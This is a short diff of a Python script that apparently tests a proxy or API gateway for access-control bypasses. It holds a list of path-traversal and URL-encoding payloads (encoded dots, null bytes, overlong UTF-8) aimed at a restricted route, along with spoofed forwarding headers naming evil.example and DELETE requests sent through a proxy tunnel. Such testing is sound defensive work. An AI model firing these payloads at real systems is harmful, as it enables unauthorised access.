@@ -88,7 +88,7 @@ raw("socket_early", f"{HEAD.replace('POST', 'GET')}Connection: Upgrade\r\nUpgrad
 PATHS = """/open/../smuggled/X /open/%2e%2e/smuggled/X /open/.%2e/smuggled/X /open/..;/smuggled/X
 /open/..%2fsmuggled/X /open/%2e%2e%2fsmuggled/X /open/..%5csmuggled/X /open/..\\smuggled/X
 /open/%252e%252e/smuggled/X /open/..%00/smuggled/X /open/%c0%ae%c0%ae/smuggled/X //smuggled/X
-/open//../smuggled/X /open/./../smuggled/X /%6fpen/../smuggled/X /OPEN/smuggled/X /open
+/open//../smuggled/X /open/./../smuggled/X /%6fpen/../smuggled/X /OPEN/smuggled/X /opens
 /open;/../smuggled/X /smuggled/X;/open/ /smuggled/X?/open/a /smuggled/X#/open/a
 /open/a#/../smuggled/X /openx/smuggled/X *""".split()
 for index, target in enumerate(PATHS):
@@ -102,7 +102,7 @@ X-Forwarded-Server:evil.example X-Forwarded-Scheme:http X-Forwarded-Method:DELET
 
 @trick
 def overrides():
-    return ask("/open/overrides", headers=[line.replace(":", ": ") for line in OVERRIDES])
+    return ask("/open/o", headers=[line.replace(":", ": ") for line in OVERRIDES])
 
 
 @trick
@@ -137,7 +137,7 @@ def hop_headers():
 def plain_in_tunnel(port):
     def attempt():
         with through_proxy(API if port == 443 else PLAIN, port) as sock:
-            host = API if port == 443 else PLAIN
+            host = f"{API}:443" if port == 443 else PLAIN
             return talk(sock, request(f"/smuggled/plain_in_tunnel_{port}", method="DELETE", host=host))
 
     TRICKS[f"plain_in_tunnel_{port}"] = attempt
